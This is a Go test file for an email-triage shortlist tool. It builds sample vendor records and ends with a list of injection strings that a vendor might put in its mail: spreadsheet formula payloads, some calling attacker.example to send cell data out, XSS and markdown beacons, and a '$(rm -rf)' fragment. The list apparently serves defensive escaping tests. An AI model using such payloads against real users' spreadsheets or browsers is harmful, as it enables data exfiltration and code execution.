package shortlist_test

import (
	"crypto/sha256"
	"time"

	"winnow/internal/shortlist"
	"winnow/internal/triage"
)

var now = time.Date(2026, 4, 1, 12, 0, 0, 0, time.UTC)

func id(s string) triage.ContentID {
	sum := sha256.Sum256([]byte(s))
	return triage.ContentID(sum[:16])
}

func day(n int) time.Time { return time.Date(2026, 3, n, 9, 30, 0, 0, time.UTC) }

// sample is a list of three vendors: one good and known, one in German with a
// claim that nothing supports, one whose mail could not be read.
func sample() shortlist.List { return shortlist.Build("Scrap at the dry end", sampleItems(), now) }

func sampleItems() []shortlist.Item {
	known := func(x float64) triage.AxisMean { return triage.AxisMean{Share: x, Known: true} }
	mill := shortlist.Item{
		Rank: 1,
		Standing: triage.Standing{
			Vendor: triage.Vendor{
				ID: "millwright.example", Name: "Millwright Analytics",
				Domains:   []triage.DomainLink{{Domain: "millwright.example", Reasons: []string{"Mail comes from addresses of millwright.example"}}},
				Addresses: []string{"dana@millwright.example", "news@mail.millwright.example"},
				People:    []triage.Person{{Name: "Dana Weber", Address: "dana@millwright.example", Touches: 2, Last: day(9)}},
			},
			Score: 78.25, Low: 61.5, High: 95,
			Parts: []triage.Part{
				{Label: "Where cold pitches usually stand, counted as one message", Value: 26.5, Cue: "prior"},
				{Label: "What its 1 message starts with", Value: 44, Cue: "messages"},
				{Label: "Pressure in 1 of 2 messages", Value: -12.25, Cue: "pressure"},
				{Label: "Meets your need “scrap | waste”", Value: 20, Cue: "need"},
			},
			Usefulness: known(1), Interest: known(0.5), Proof: known(0.5), Pressure: known(1. / 3),
			Touches: 2, First: day(2), Last: day(9), Verdict: triage.Engage, Band: triage.Likely,
			Relationship: triage.Relationship{Exists: true},
			Needs:        []triage.NeedMatch{{Need: "scrap | waste", Found: "scrap by 31 %", Score: 0.9}},
			Shortlisted:  true, Reasons: []string{"Meets your need “scrap | waste”: scrap by 31 %", "Names a customer with a result (Mar 2)"},
		},
		Messages: []triage.Judged{
			judged("one", "CAMPAIGN-1@mail.millwright.example", day(2), "Less scrap at the dry end", triage.KindPitch,
				triage.Evidence{Target: "usefulness", Quote: "cuts scrap by 31 % on two-ply lines", Reason: "Says what it does", Weight: 2, Cue: "use.result"},
				triage.Evidence{Target: "proof", Quote: "Harbour Mill saved 12 tonnes in March", Reason: "Names a customer with a result", Weight: 2, Cue: "proof.customer"},
				triage.Evidence{Target: "interest", Quote: "for mills with two-ply lines", Reason: "Names whom it is for", Weight: 1, Cue: "int.role"}),
			judged("two", "", day(9), "Re: Less scrap at the dry end", triage.KindPitch,
				triage.Evidence{Target: "false-thread", Fact: "no-parent", Reason: "No earlier mail is in the mailbox", Weight: 1, Cue: "thread.false"},
				triage.Evidence{Target: "bump", Quote: "just floating this to the top", Reason: "Chases", Weight: 2, Cue: "bump.float"}),
			judged("three", "", day(12), "Receipt", triage.KindTransactional, triage.Evidence{Target: "usefulness", Quote: "never shown", Weight: 3}),
		},
		Decisions: []triage.Decision{
			{ID: 4, At: day(10), Act: triage.ActShortlist, Why: "asked by the plant"},
			{ID: 7, At: day(20), Act: triage.ActMute, Mute: &triage.Mute{Strength: triage.Slow, Until: day(30)}},
		},
	}
	waage := shortlist.Item{
		Rank: 2,
		Standing: triage.Standing{
			Vendor:     triage.Vendor{ID: "waagenbau.example", Name: "Wägetechnik Süd GmbH", Domains: []triage.DomainLink{{Domain: "waagenbau.example"}}, Addresses: []string{"info@waagenbau.example"}},
			Score:      41,
			Low:        22,
			High:       60,
			Parts:      []triage.Part{{Label: "Where advertisers usually stand, counted as one message", Value: 41, Cue: "prior"}},
			Usefulness: known(0.5), Interest: known(0), Proof: known(0), Pressure: known(2. / 3), Touches: 1, First: day(5), Last: day(5),
			Verdict: triage.Consider, Band: triage.Unsure, Shortlisted: true, Reasons: []string{"No proof so far of what it claims"},
			Mute: &triage.Mute{Strength: triage.Limit},
		},
		Messages: []triage.Judged{func() triage.Judged {
			j := judged("vier", "x@waagenbau.example", day(5), "Die Nr. 1", triage.KindPromo,
				triage.Evidence{Target: "hype", Quote: "die weltweit beste Waage aller Zeiten", Reason: "Superlative without support", Weight: 2},
				triage.Evidence{Target: "gating", Quote: "Preise nur nach Registrierung", Reason: "Price only after a form", Weight: 2})
			j.Judgement.Tactics = []triage.Tactic{triage.Hype, triage.Gating}
			return j
		}()},
	}
	pictures := shortlist.Item{Standing: triage.Standing{
		Vendor: triage.Vendor{ID: "lee@gmail.com", Name: "Lee Park", Addresses: []string{"lee@gmail.com"}},
		Score:  53, Low: 20, High: 86, Verdict: triage.Skip, Band: triage.Unsure, Shortlisted: true,
	}}
	return []shortlist.Item{mill, waage, pictures}
}

func judged(name, messageID string, at time.Time, subject string, kind triage.Kind, evidence ...triage.Evidence) triage.Judged {
	return triage.Judged{
		Message: &triage.Message{Envelope: triage.Envelope{
			ID: id(name), MessageID: messageID, Date: at, Subject: subject, From: triage.Address{Email: "dana@millwright.example"},
		}},
		Judgement: triage.Judgement{Kind: kind, Evidence: evidence},
	}
}

// attacks are texts that vendors could write to do something in the buyer's
// spreadsheet, browser or editor.
var attacks = []string{
	`=1+1`, `=cmd|'/C calc'!A0`, `+1+1`, `-1+1`, `@SUM(1+1)*cmd|'/C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1", ` =1+1`, "\u00a0=1+1",
	"\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "\x00=1+1", `＝1+1`, `＋1+1`, `－1`, `＠SUM(1)`, `|calc`, `%0A=1+1`, `−1+1`,
	`=HYPERLINK("http://attacker.example/?"&A1,"click")`, `=IMPORTXML("http://attacker.example","//a")`, `=WEBSERVICE("http://attacker.example")`,
	`"=1+1`, `'=1+1`, `;=1+1`, `,=1+1`, `a;=1+1`, `a,"=1+1"`, "a\r\n=1+1", "a\t=1+1", `"","=1+1"`, `""=1+1`,
	`<script>alert(1)</script>`, `"><img src=x onerror=alert(1)>`, `</style><script>alert(1)</script>`, `<a href="javascript:alert(1)">x</a>`,
	`{{.}}`, `javascript:alert(1)`, `[x](javascript:alert(1))`, `![x](http://attacker.example/p.png)`, `<http://attacker.example>`, `http://attacker.example/p`,
	`www.attacker.example`, `| a | b |`, "a\n\n# heading", "```", `&lt;script&gt;`, `<!-- x`, `$(rm -rf)`, "\xff\xfe broken", `=`, `'`, ``, `-`,
}
